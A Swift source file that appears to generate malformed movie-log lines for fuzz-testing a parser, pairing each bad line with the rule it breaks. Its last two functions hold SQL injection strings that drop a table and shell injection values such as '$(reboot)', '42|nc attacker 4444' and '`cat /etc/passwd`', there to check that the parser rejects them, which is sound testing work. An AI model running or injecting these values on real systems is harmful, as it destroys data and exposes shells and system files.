import MovieLog

extension World {
    /// Emits a line of a random ``DirtyCase`` (all equally likely) and records the rule the
    /// parser rejects it with.
    mutating func emitDirty(into line: inout LineBuilder) -> LineIntent {
        let dirty = random.element(of: DirtyCase.allCases)
        let (parts, code) = dirtyLine(dirty)
        for part in parts { line.append(bytes: part) }
        recorder.dirty(code)
        return .dirty(dirty)
    }

    /// A watch or rate line, the kinds that carry a movie id of their own.
    private mutating func movieKind() -> BaseKind {
        random.chance(0.5) ? .watch : .rate
    }

    /// The parts of a line of `dirty` and the rule it breaks.
    private mutating func dirtyLine(_ dirty: DirtyCase) -> ([[UInt8]], MovieLogError.Code) {
        switch dirty {
        case .negativeUserID:
            var parts = validParts(random.element(of: BaseKind.allCases))
            parts[Part.user] = Self.text("-") + parts[Part.user]
            return (parts, .userID)
        case .nonNumericUserID:
            var parts = validParts(random.element(of: BaseKind.allCases))
            let id = parts[Part.user]
            parts[Part.user] = random.element(of: [
                Self.text("abc"), Self.text("user") + id, id + Self.text("a"), Self.text("0x1F"), [], Self.text("0"),
                Self.text("12345678901"), Self.text("3.5"), Self.text(" ") + id,
            ])
            return (parts, .userID)
        case .ratingOutOfRange:
            var parts = validParts(.rate)
            parts[Part.rating] = Self.text(random.element(of: ["0", "6", "9", "10", "-1", "4.5"]))
            return (parts, .rating)
        case .nonNumericRating:
            var parts = validParts(.rate)
            parts[Part.rating] = Self.text(random.element(of: ["seven", "five", "x", "4 stars"]))
            return (parts, .rating)
        case .movieIDWithSpace:
            var parts = validParts(movieKind())
            parts[Part.movie] = parts[Part.movie].map { $0 == UInt8(ascii: "+") ? UInt8(ascii: " ") : $0 }
            return (parts, .movieID)
        case .movieIDUpperCase:
            var parts = validParts(movieKind())
            let slug = parts[Part.movie]
            let upper = slug.map { (UInt8(ascii: "a")...UInt8(ascii: "z")).contains($0) ? $0 - 32 : $0 }
            parts[Part.movie] = upper == slug ? Self.text("A") + slug : upper
            return (parts, .movieID)
        case .movieIDControlCharacter:
            var parts = validParts(movieKind())
            let control: UInt8 = random.element(of: [0x00, 0x01, 0x09, 0x1B, 0x7F])
            parts[Part.movie].insert(control, at: random.number(in: 0...parts[Part.movie].count))
            return (parts, .movieID)
        case .movieIDTooLong:
            var parts = validParts(movieKind())
            let length = random.number(in: 257...400)
            var slug = parts[Part.movie]
            while slug.count < length { slug += Self.text("+") + Self.text(random.element(of: CatalogWords.words)) }
            parts[Part.movie] = Array(slug.prefix(length))
            return (parts, .movieID)
        case .unparseableTimestamp:
            var parts = validParts(random.element(of: BaseKind.allCases))
            parts[Part.time] = unparseableTime()
            return (parts, .timestamp)
        case .futureTimestamp:
            var parts = validParts(random.element(of: BaseKind.allCases))
            parts[Part.time] = dirtyTime(year: random.element(of: [2099, 2100, 2525, 9999]))
            return (parts, .futureTimestamp)
        case .truncatedLine:
            return (truncatedParts(), .truncated)
        case .emptyMessage:
            return ([], .empty)
        case .nonUTF8:
            var parts = validParts(movieKind())
            let invalid: [UInt8] = random.element(of: [[0xE9], [0x80], [0xC0, 0xAF], [0xFF, 0xFE], [0xE2, 0x82]])
            parts[Part.movie].insert(contentsOf: invalid, at: random.number(in: 0...parts[Part.movie].count))
            return (parts, .encoding)
        case .resultNotList:
            var parts = validParts(.recommendation)
            let first = randomSlug()
            let second = randomSlug()
            var tooMany = first
            for _ in 0..<20 { tooMany += Self.text(", ") + randomSlug() }
            parts[Part.result] = random.element(of: [
                Self.text("[") + first + Self.text(", ") + second + Self.text("]"), Self.text("{\"items\": []}"),
                Self.text("Office Space (1999)"), [], first + Self.text(",") + second, tooMany,
            ])
            return (parts, .result)
        case .nonNumericStatus:
            var parts = validParts(.recommendation)
            parts[Part.status] = Self.text(random.element(of: ["OK", "2OO", "-1", "1000", "two hundred", "", "200.0"]))
            return (parts, .status)
        case .sqlInjection:
            return sqlInjection()
        case .shellMetacharacters:
            return shellMetacharacters()
        case .unknownKind:
            var parts = Array(validParts(.watch).prefix(Part.request))
            let slug = randomSlug()
            parts.append(
                random.element(of: [
                    Self.text("POST /rate/") + slug + Self.text("=4"), Self.text("GET /search?q=") + slug,
                    Self.text("GET /data/x/") + slug + Self.text("/3.mpg"), Self.text("DELETE /data/m/") + slug,
                    Self.text("recommendation response ") + Self.text(random.element(of: Self.servers)),
                ]))
            return (parts, .unknownKind)
        case .badMinute:
            var parts = validParts(.watch)
            parts[Part.minute] = Self.text(random.element(of: ["-3", "abc", "1234567890", "x", "1e3"]))
            return (parts, .minute)
        case .badRequest:
            var parts = validParts(.watch)
            parts[Part.suffix] = Self.text(random.element(of: [".mp4", ".avi", ".mpeg"]))
            return (parts, .request)
        case .badServer:
            var parts = validParts(.recommendation)
            parts[Part.server] = Self.text(
                random.element(of: [
                    "team13.isri.cmu.edu", "team13.isri.cmu.edu:http", "team 13:8082", ":8082",
                    "team13.isri.cmu.edu:123456",
                ]))
            return (parts, .server)
        case .badLatency:
            var parts = validParts(.recommendation)
            parts[Part.latency] = Self.text(
                random.element(of: [
                    "133 msec", "-5 ms", "3000000000 ms", "12 ms extra", "133 sec",
                ]))
            return (parts, .latency)
        }
    }

    /// A time field the parser cannot read: month 13, February 30, a space for `T`, a zone
    /// suffix, 10 fraction digits, 1969, hour 25, minute 60, a word, or nothing.
    private mutating func unparseableTime() -> [UInt8] {
        var time = dirtyTime(format: .seconds)  // YYYY-MM-DDTHH:MM:SS
        switch random.below(10) {
        case 0: time.replaceSubrange(5..<7, with: Self.text("13"))
        case 1:
            time.replaceSubrange(5..<7, with: Self.text("02"))
            time.replaceSubrange(8..<10, with: Self.text("30"))
        case 2: time[10] = UInt8(ascii: " ")
        case 3: time += Self.text("Z")
        case 4: time += Self.text(".1234567890")
        case 5: time.replaceSubrange(0..<4, with: Self.text("1969"))
        case 6: time.replaceSubrange(11..<13, with: Self.text("25"))
        case 7: time.replaceSubrange(14..<16, with: Self.text("60"))
        case 8: time = Self.text("yesterday")
        default: time = []
        }
        return time
    }

    /// `x');DROP TABLE interactions;--` and kin in a movie id, user id, rating, error text,
    /// result item or server.
    private mutating func sqlInjection() -> ([[UInt8]], MovieLogError.Code) {
        let sql = Self.text("x');DROP TABLE interactions;--")
        switch random.below(7) {
        case 0, 1:
            var parts = validParts(movieKind())
            parts[Part.movie] = sql
            return (parts, .movieID)
        case 2:
            var parts = validParts(random.element(of: BaseKind.allCases))
            parts[Part.user] = Self.text("1);DROP TABLE interactions;--")
            return (parts, .userID)
        case 3:
            var parts = validParts(.rate)
            parts[Part.rating] = Self.text("5');DROP TABLE interactions;--")
            return (parts, .rating)
        case 4:
            var parts = validParts(.recommendation)
            parts[Part.status] = Self.text("500")
            parts[Part.result] = sql
            return (parts, .result)
        case 5:
            var parts = validParts(.recommendation)
            parts[Part.result] = randomSlug() + Self.text(", ") + sql
            return (parts, .result)
        default:
            var parts = validParts(.recommendation)
            parts[Part.server] = sql + Self.text(":8082")
            return (parts, .server)
        }
    }

    /// Shell metacharacters in a movie id, user id, rating, error text, server or minute.
    private mutating func shellMetacharacters() -> ([[UInt8]], MovieLogError.Code) {
        switch random.below(7) {
        case 0:
            var parts = validParts(.watch)
            parts[Part.movie] = Self.text("$(reboot)")
            return (parts, .movieID)
        case 1:
            var parts = validParts(.rate)
            parts[Part.movie] += Self.text(">/tmp/x")
            return (parts, .movieID)
        case 2:
            var parts = validParts(random.element(of: BaseKind.allCases))
            parts[Part.user] = Self.text("42|nc attacker 4444")
            return (parts, .userID)
        case 3:
            var parts = validParts(.rate)
            parts[Part.rating] = Self.text("4|sh")
            return (parts, .rating)
        case 4:
            var parts = validParts(.recommendation)
            parts[Part.status] = Self.text("0")
            parts[Part.result] = Self.text("`cat /etc/passwd`")
            return (parts, .result)
        case 5:
            var parts = validParts(.recommendation)
            parts[Part.server] = Self.text("x;sh:8082")
            return (parts, .server)
        default:
            var parts = validParts(.watch)
            parts[Part.minute] = Self.text("3;id")
            return (parts, .minute)
        }
    }
}
